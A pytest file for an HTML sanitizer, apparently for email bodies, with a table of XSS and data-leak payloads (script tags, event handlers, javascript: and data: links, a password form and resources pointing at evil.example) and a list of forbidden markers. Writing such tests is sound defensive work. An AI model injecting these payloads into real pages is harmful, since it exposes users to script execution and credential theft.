"""Hostile HTML bodies come out inert; remote images are held back and flagged."""

from __future__ import annotations

import pytest

from resolvers.sanitize import sanitize_html

HOSTILE = {
    "script": "<script>alert(1)</script><p>text</p>",
    "onerror": '<img src="x" onerror="alert(1)"><p>text</p>',
    "svg onload": '<svg onload="alert(1)"><circle r="1"/></svg><p>text</p>',
    "javascript link": '<a href="javascript:alert(1)">text</a>',
    "obfuscated javascript link": '<a href=" JaVa&#x53;cript:alert(1)">text</a>',
    "data link": '<a href="data:text/html;base64,PHNjcmlwdD4=">text</a>',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">text',
    "form": '<form action="https://evil.example/"><input name="pw"><button>text</button></form>',
    "css import": "<style>@import url(https://evil.example/x.css);</style><p>text</p>",
    "external stylesheet": '<link rel="stylesheet" href="https://evil.example/x.css"><p>text</p>',
    "iframe": '<iframe src="https://evil.example/"></iframe><p>text</p>',
    "base href": '<base href="https://evil.example/"><a href="/relative">text</a>',
    "object": '<object data="https://evil.example/x.swf"></object><p>text</p>',
    "css url": '<p style="background-image: url(https://evil.example/t.gif)">text</p>',
    "css expression": '<p style="width: expression(alert(1))">text</p>',
    "protocol-relative image": '<img src="//evil.example/t.gif"><p>text</p>',
    "event on body": '<body onload="alert(1)"><p>text</p></body>',
}
FORBIDDEN = (
    "<script",
    "alert",
    "onerror",
    "onload",
    "javascript:",
    "data:",
    "<meta",
    "<form",
    "<input",
    "@import",
    "<style",
    "<link",
    "<iframe",
    "<base",
    "<object",
    "url(",
    "expression",
    "evil.example",
    "<svg",
)


@pytest.mark.parametrize("html", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_bodies_come_out_inert(html: str) -> None:
    safe = sanitize_html(html).html
    lowered = safe.lower()
    for marker in FORBIDDEN:
        assert marker not in lowered, (marker, safe)
    assert "text" in safe


def test_remote_images_are_held_back() -> None:
    safe = sanitize_html(
        '<p>Hi</p><img alt="a > b" src="https://tracker.example/p.gif?u=1&amp;v=2" width="1">'
    )
    assert safe.has_remote_images is True
    assert " src=" not in safe.html
    assert 'data-remote-src="https://tracker.example/p.gif?u=1&amp;v=2"' in safe.html
    assert 'alt="a &gt; b"' in safe.html


def test_inline_images_and_formatting_stay() -> None:
    safe = sanitize_html(
        '<table border="0"><tr><td style="color: #333; padding: 4px">'
        '<b>Bold</b> <img src="cid:logo@x" alt="logo"></td></tr></table>'
    )
    assert safe.has_remote_images is False
    assert '<img src="cid:logo@x" alt="logo">' in safe.html
    assert "<b>Bold</b>" in safe.html
    assert "color:#333" in safe.html.replace(" ", "")


def test_links_open_safely() -> None:
    safe = sanitize_html('<a href="https://example.com/x">x</a>').html
    assert 'href="https://example.com/x"' in safe
    assert 'rel="noopener noreferrer nofollow"' in safe
    assert 'target="_blank"' in safe
